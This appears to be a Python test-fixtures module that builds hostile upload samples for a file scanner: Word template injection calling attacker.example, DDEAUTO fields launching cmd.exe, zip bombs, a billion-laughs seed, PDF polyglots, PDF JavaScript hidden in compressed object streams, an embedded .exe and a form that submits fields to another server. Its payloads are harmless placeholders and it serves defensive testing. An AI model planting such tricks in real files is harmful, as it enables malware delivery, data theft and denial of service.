"""Upload fixtures, built in code so that each is exactly what its name says."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

from tests.factories import PDF_BYTES

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HYPERLINK = (
    b'<Relationship Id="rId9" Type="' + REL + b'/hyperlink" Target="https://example.org/" '
    b'TargetMode="External"/>'
)


def word_body(body: bytes = b"<w:p><w:r><w:t>Budget 2027</w:t></w:r></w:p>") -> bytes:
    return b"<w:document " + W + b"><w:body>" + body + b"</w:body></w:document>"


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document: its text, and a hyperlink to the web (which is fine)."""
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "word/document.xml": word_body(),
        "word/_rels/document.xml.rels": b"<Relationships "
        + RELS
        + b">"
        + HYPERLINK
        + b"</Relationships>",
        **(extra or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_utf16_entities() -> bytes:
    """Relationships in UTF-16 declaring an entity (a billion-laughs seed)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "</Relationships>"
    ).encode("utf-16")
    return docx({"word/_rels/document.xml.rels": rels})


def docx_with_remote_template() -> bytes:
    """Word's "template injection": settings.xml.rels points the template at a server."""
    rels = (
        b"<Relationships "
        + RELS
        + b'><Relationship Id="rId1" Type="'
        + REL
        + b'/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    settings = (
        b"<w:settings "
        + W
        + b'><w:attachedTemplate r:id="rId1" xmlns:r="'
        + REL
        + b'"/></w:settings>'
    )
    return docx({"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels})


def docx_with_dde(split: bool = False) -> bytes:
    """A DDEAUTO field, as a simple field or split over runs (as Word writes it)."""
    if split:
        field = (
            b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            b'<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
            b'<w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe '
            b'"/k calc.exe"</w:instrText></w:r>'
            b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    else:
        field = b'<w:p><w:fldSimple w:instr="DDE cmd.exe &quot;/c calc&quot; x"/></w:p>'
    return docx({"word/document.xml": word_body(field)})


def docx_with_ordinary_fields() -> bytes:
    """A page number and a table of contents: fields that are fine."""
    fields = (
        b'<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText> TOC \\o "1-3"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx({"word/document.xml": word_body(fields)})


SHEET = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def xlsx(formula: bytes = b"SUM(A1:A2)", extra: dict[str, bytes] | None = None) -> bytes:
    """A workbook with one sheet and one formula cell."""
    sheet = (
        b"<worksheet " + SHEET + b'><sheetData><row r="1"><c r="A1"><v>1</v></c>'
        b'<c r="B1"><f>' + formula + b"</f></c></row></sheetData></worksheet>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", b"<workbook " + SHEET + b"/>")
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        archive.writestr(
            "content.xml",
            b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
            b'xmlns:office:1.0"/>',
        )
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("regnskab.pdf", PDF_BYTES)
        archive.writestr("budget.xlsx", b"not really")
    return buffer.getvalue()


def zip_bomb_of_small_parts(parts: int = 99) -> bytes:
    """A .docx of 114 KB that unpacks to 99 MB: many parts of 1 MB of zeros each, every
    one of them small enough to pass a check of one part at a time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", word_body())
        for n in range(parts):
            archive.writestr(f"word/media/image{n}.bin", b"\0" * 1_048_576)
    return buffer.getvalue()


def zip_bomb_docx(unpacked_mb: int = 200) -> bytes:
    """A real-looking .docx whose one part unpacks to ``unpacked_mb`` MB of zeros."""
    buffer = io.BytesIO()
    chunk = b"\0" * 1_048_576
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", word_body())
        with archive.open("word/media/padding.bin", "w", force_zip64=True) as member:
            for _ in range(unpacked_mb):
                member.write(chunk)
    return buffer.getvalue()


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 200


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 100


def pdf_with_zip_appended() -> bytes:
    """A polyglot: a valid PDF that is also a ZIP archive (read from its end)."""
    return PDF_BYTES + plain_zip()


def pdf_with_html() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Length 60>>stream\n<html><script>alert(document.cookie)</script>"
        b"</html>\nendstream endobj\ntrailer<<>>\n%%EOF\n"
    )


def pdf_with_javascript(name: bytes = b"/JavaScript") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
        b"2 0 obj<</S" + name + b"/JS(app.alert(1))>>endobj\ntrailer<<>>\n%%EOF\n"
    )


def pdf_with_compressed_javascript() -> bytes:
    body = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    return (
        b"%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter/FlateDecode/Length "
        + str(len(body)).encode()
        + b">>stream\n"
        + body
        + b"\nendstream endobj\ntrailer<<>>\n%%EOF\n"
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png() -> bytes:
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof = b"\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    sos = b"\x01\x01\x00\x00\x3f\x00"
    return (
        b"\xff\xd8"
        + b"\xff\xe0"
        + struct.pack(">H", len(app0) + 2)
        + app0
        + b"\xff\xc0"
        + struct.pack(">H", len(sof) + 2)
        + sof
        + b"\xff\xda"
        + struct.pack(">H", len(sos) + 2)
        + sos
        + b"\x12\x34\xff\x00\x56\xff\xd0\x78"
        + b"\xff\xd9"
    )


# --- PDFs built with pikepdf: real files, as a PDF writer would save them -------------------


def _pdf(build: Any = None, **save: Any) -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if build is not None:
        build(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    return buffer.getvalue()


def pdf() -> bytes:
    """A clean one-page PDF, with a link to the web and an open-at-page-one action."""
    import pikepdf

    def build(pdf: Any) -> None:
        page = pdf.pages[0]
        pdf.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 100, 20],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org")),
        )
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([link]))

    return _pdf(build)


def pdf_open_action(action: str, **entries: Any) -> bytes:
    """``/OpenAction << /S /<action> … >>``: run something as the file opens."""
    import pikepdf

    def build(pdf: Any) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/" + action), **entries)

    return _pdf(build)


def pdf_javascript_in_object_stream() -> bytes:
    """JavaScript in a page's additional actions (/AA), saved inside a compressed object
    stream, so that no byte of ``/JavaScript`` is in the file as written."""
    import pikepdf

    def build(pdf: Any) -> None:
        action = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)

    data = _pdf(build, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in data and b"/JS" not in data
    return data


def pdf_with_embedded_file() -> bytes:
    """A PDF carrying a Windows program as an attachment (/EmbeddedFiles)."""
    import pikepdf

    def build(pdf: Any) -> None:
        pdf.attachments["faktura.exe"] = pikepdf.AttachedFileSpec(pdf, exe())

    return _pdf(build)


def pdf_with_submit_form() -> bytes:
    """A form whose button sends the filled-in fields to another server."""
    import pikepdf

    def build(pdf: Any) -> None:
        button = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Btn,
                T=pikepdf.String("send"),
                Rect=[0, 0, 100, 20],
                A=pikepdf.Dictionary(
                    S=pikepdf.Name.SubmitForm,
                    F=pikepdf.Dictionary(
                        FS=pikepdf.Name.URL, F=pikepdf.String("http://x.example/")
                    ),
                ),
            )
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([button]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))

    return _pdf(build)


def pdf_with_password() -> bytes:
    import pikepdf

    return _pdf(encryption=pikepdf.Encryption(user="hemmelig", owner="hemmelig"))
